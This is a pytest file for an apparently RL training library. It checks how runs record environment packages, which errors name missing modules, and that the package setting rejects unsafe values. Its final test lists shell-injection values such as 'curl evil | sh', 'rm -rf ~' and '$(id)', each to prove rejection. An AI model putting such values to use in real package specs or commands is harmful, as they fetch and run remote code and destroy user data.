"""The package of an environment: which one a run records, and what an actor without it, or with another, says."""

import logging
import sys
from pathlib import Path

import pytest

from daedalus.actor.environments.environment_errors import EnvironmentSetupError
from daedalus.actor.environments.environment_packages import with_package
from daedalus.actor.environments.make import make_environments
from daedalus.learner.run.settings import SettingsError, run_spec
from daedalus.policy.user_modules import NO_MODULES, UserModules
from daedalus.protocol.spec import Backend, EnvironmentSpec


@pytest.fixture
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder without the modules of the run, in which the process works."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize(
    ("environment_id", "backend", "name"),
    [
        ("MiniGrid-Empty-5x5-v0", "gymnasium", "minigrid"),
        ("minigrid.envs:EmptyEnv", "gymnasium", "minigrid"),
        ("ALE/Pong-v5", "gymnasium", "ale-py"),
        ("pong", "ale", "ale-py"),
        ("pettingzoo.classic.connect_four_v3", "pettingzoo", "pettingzoo"),
        ("CartPole-v1", "gymnasium", None),  # comes with daedalus-rl
        ("daedalus.actor:Own", "gymnasium", None),  # installed from its source folder
        ("own_file:Own", "gymnasium", None),
        ("python:Own", "gymnasium", None),
    ],
)
def test_a_run_records_the_installed_package_of_its_environment(
    environment_id: str, backend: Backend, name: str | None, elsewhere: Path
) -> None:
    (elsewhere / "own_file.py").touch()
    package = with_package(EnvironmentSpec(id=environment_id, backend=backend)).package
    assert (package and package.partition("==")[0]) == name
    named = EnvironmentSpec(id=environment_id, backend=backend, package="other[extra]==1.0")
    assert with_package(named) == named


@pytest.mark.usefixtures("elsewhere")
@pytest.mark.parametrize("allowed", [False, True])
def test_a_missing_module_is_named_with_what_brings_it(allowed: bool) -> None:
    modules = UserModules(frozenset({"far_away"})) if allowed else NO_MODULES
    bare = EnvironmentSpec(id="far_away:Walk-v0")
    with pytest.raises(EnvironmentSetupError) as without:
        make_environments(bare, 1, modules=modules)
    with pytest.raises(EnvironmentSetupError) as recorded:
        make_environments(bare.model_copy(update={"package": "far-away[all]==1.2"}), 1, modules=modules)
    for error in (str(without.value), str(recorded.value)):
        assert ("No module named 'far_away'" in error) == allowed
        assert ("add --allow-module far_away; far_away is not installed here" in error) != allowed
        assert len(error) < 300  # what a learner keeps of it for its status
        assert "\n" not in error
    assert str(without.value).endswith(": install it, or start in the folder of far_away.py")
    assert str(recorded.value).endswith('; if you trust the run, install its package: pip install "far-away[all]==1.2"')


def test_a_module_that_is_here_and_not_allowed_is_not_called_missing(elsewhere: Path) -> None:
    (elsewhere / "far_away.py").touch()
    with pytest.raises(EnvironmentSetupError, match=r"add --allow-module far_away$"):
        make_environments(EnvironmentSpec(id="far_away:Walk-v0"), 1)


def test_a_missing_extra_is_named_with_the_recorded_package(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "minigrid", None)
    spec = EnvironmentSpec(id="MiniGrid-Empty-5x5-v0", package="minigrid==3.0.0")
    with pytest.raises(EnvironmentSetupError, match=r'install "daedalus-rl\[minigrid\]"; .*"minigrid==3\.0\.0"$'):
        make_environments(spec, 1)


def test_another_version_of_the_package_is_played_with_a_warning(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING)
    spec = EnvironmentSpec(id="MiniGrid-Empty-5x5-v0", leave_out=("mission",))
    make_environments(with_package(spec), 1).close()
    make_environments(spec.model_copy(update={"package": "not-installed==1.0"}), 1).close()
    assert not caplog.messages
    make_environments(spec.model_copy(update={"package": "minigrid==0.0.1"}), 1).close()
    (warning,) = caplog.messages
    assert warning.startswith("the run has environment.package=minigrid==0.0.1, and version 3")


def test_an_older_actor_plays_a_run_that_names_its_package() -> None:
    spec = run_spec({"environment": {"id": "A-v0", "package": "a==1"}})
    assert spec.for_actors().changed == ("environment.id",)
    assert spec.for_actors().environment.package == "a==1"


@pytest.mark.parametrize(
    "hostile",
    [
        *("a==1; curl evil | sh", 'a==1" && rm -rf ~ "', "a==1`id`", "$(id)==1", "a==$HOME", "a==1\n", "a==1 b==2"),
        *("--index-url==1", "-e==1", "a @ http://evil/a.whl", "a", "a>=1", "a==", "a==1!2", "a\u0301==1", "a==\u0661"),
        *("a[b;c]==1", "a==1\x1b[2J", "a==1\u202e", "a==1%PATH%", f"a=={'1' * 100}"),
    ],
)
def test_a_package_has_no_characters_that_a_shell_would_obey(hostile: str) -> None:
    with pytest.raises(SettingsError, match=r"^setting environment\.package "):
        run_spec({"environment": {"id": "A-v0", "package": hostile}})
